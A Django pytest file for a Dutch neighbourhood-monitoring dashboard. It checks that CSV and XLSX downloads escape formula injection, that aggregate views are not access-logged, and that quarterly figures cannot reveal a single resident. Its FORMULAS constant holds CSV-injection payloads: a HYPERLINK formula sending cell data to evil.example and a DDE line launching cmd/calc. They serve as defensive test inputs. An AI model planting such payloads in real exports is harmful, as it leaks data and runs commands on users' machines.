"""The dashboard's downloads under attack: a text an administrator typed (a stadsdeel's name is
the stadsdeel's code in the figures, ADR 0044) never reaches a spreadsheet as a formula."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from wijk.accounts.models import Role
from wijk.areas.models import Buurt, District, Wijk
from wijk.core.models import AccessLogEntry
from wijk.monitoring.indicators import AREA_DISTRICT, AREA_WIJK
from wijk.monitoring.selectors import PeriodUnit, period_of
from wijk.monitoring.services import published_set_make
from wijk.monitoring.tests.factories import TrajectoryFactory
from wijk.residents.tests.factories import AddressFactory, ResidentFactory

pytestmark = pytest.mark.django_db

DOWNLOAD = reverse("monitoring:dashboard_download")
FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "@SUM(1)")


@pytest.fixture
def hostile_districts(db) -> list[str]:  # type: ignore[no-untyped-def]
    """Stadsdelen named like formulas (an administrator can name a stadsdeel anything)."""
    wijken = list(Wijk.objects.order_by("code"))
    for name, wijk in zip(FORMULAS, wijken, strict=False):
        wijk.district = District.objects.create(municipality=wijk.municipality, name=name)
        wijk.save(update_fields=["district"])
    return list(FORMULAS)


@pytest.mark.parametrize("role", [Role.MANAGEMENT, Role.MUNICIPALITY])
def test_no_download_cell_starts_a_formula(role, hostile_districts, make_user, client_for) -> None:  # type: ignore[no-untyped-def]
    client = client_for(make_user(role))
    query = {"indicator": "bereik", "vergelijk": AREA_DISTRICT, "periods": "1"}

    text = client.get(DOWNLOAD, {**query, "formaat": "csv"}).content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    districts = [row["gebied"] for row in rows if row["niveau"] == AREA_DISTRICT]
    assert districts, "the stadsdelen are in the download"
    for row in rows:
        for value in row.values():
            if value.lstrip("-").isdigit():
                continue  # a number, which a spreadsheet reads as a number
            assert not value.startswith(("=", "+", "@", "-", "\t", "\r")), value
    # The name is still there, behind the apostrophe a spreadsheet shows as text.
    assert {f"'{name}" for name in hostile_districts} <= set(districts)

    content = client.get(DOWNLOAD, {**query, "formaat": "xlsx"}).content
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert set(hostile_districts) <= {cell.value for cell in cells}


@pytest.mark.parametrize("role", [Role.TEAM_LEAD, Role.MANAGEMENT, Role.MUNICIPALITY])
def test_the_dashboard_and_its_downloads_are_aggregates_not_logged(
    role, team, make_user, client_for
) -> None:  # type: ignore[no-untyped-def]
    """Counts name nobody: opening or downloading them writes no access-log entry."""
    client = client_for(make_user(role, teams=[team] if role == Role.TEAM_LEAD else None))
    assert client.get(reverse("monitoring:dashboard")).status_code == 200
    for kind in ("csv", "xlsx"):
        assert client.get(DOWNLOAD, {"formaat": kind}).status_code == 200
    assert not AccessLogEntry.objects.exists()


def test_a_team_lead_waiting_for_approval_gets_no_figures(team, make_user, client_for) -> None:  # type: ignore[no-untyped-def]
    client = client_for(make_user(Role.TEAM_LEAD, teams=[team], role_approved=False))
    for url in (reverse("monitoring:dashboard"), DOWNLOAD, reverse("monitoring:quality")):
        assert client.get(url).status_code == 404


def test_a_quarter_adds_up_the_published_months_not_what_was_registered_since(
    make_user, client_for
) -> None:  # type: ignore[no-untyped-def]
    """Last quarter's months were delivered (published); a trajectory registered late in its
    first month changes the quarter only if the quarter is counted anew. The quarter minus
    its three published months would then tell the municipality one resident: in this wijk,
    this month, and (by the breakdown) with this reason."""
    buurt = Buurt.objects.select_related("wijk").order_by("code").first()
    this_quarter = period_of(PeriodUnit.QUARTER, timezone.localdate())
    last_quarter = period_of(PeriodUnit.QUARTER, this_quarter.start - datetime.timedelta(days=1))

    def started(day: datetime.date, count: int) -> None:
        for _resident in range(count):
            resident = ResidentFactory(address=AddressFactory(buurt=buurt))
            TrajectoryFactory(resident=resident, inflow_date=day)

    for month in last_quarter.months:
        started(month + datetime.timedelta(days=9), 10)
        published_set_make(period=period_of(PeriodUnit.MONTH, month), actor=None)
    started(last_quarter.start + datetime.timedelta(days=11), 1)  # registered late

    client = client_for(make_user(Role.MUNICIPALITY))

    def rows(unit: str) -> dict[tuple[str, str], tuple[str, str]]:
        query = {"indicator": "instroom_reden", "unit": unit, "periods": "6", "formaat": "csv"}
        text = client.get(DOWNLOAD, query).content.decode("utf-8-sig")
        return {
            (row["periode_begin"], row["categorie"]): (row["waarde"], row["status"])
            for row in csv.DictReader(io.StringIO(text))
            if (row["niveau"], row["gebied"]) == (AREA_WIJK, buurt.wijk.code)
        }

    months, quarters = rows(PeriodUnit.MONTH), rows(PeriodUnit.QUARTER)
    for (start, category), (value, status) in quarters.items():
        if start != last_quarter.start.isoformat() or status != "shown":
            continue
        parts = [months[(month.isoformat(), category)] for month in last_quarter.months]
        assert all(part_status == "shown" for _part, part_status in parts)
        assert int(value) == sum(int(part) for part, _part_status in parts), category
    assert quarters[(last_quarter.start.isoformat(), "")] == ("30", "shown")
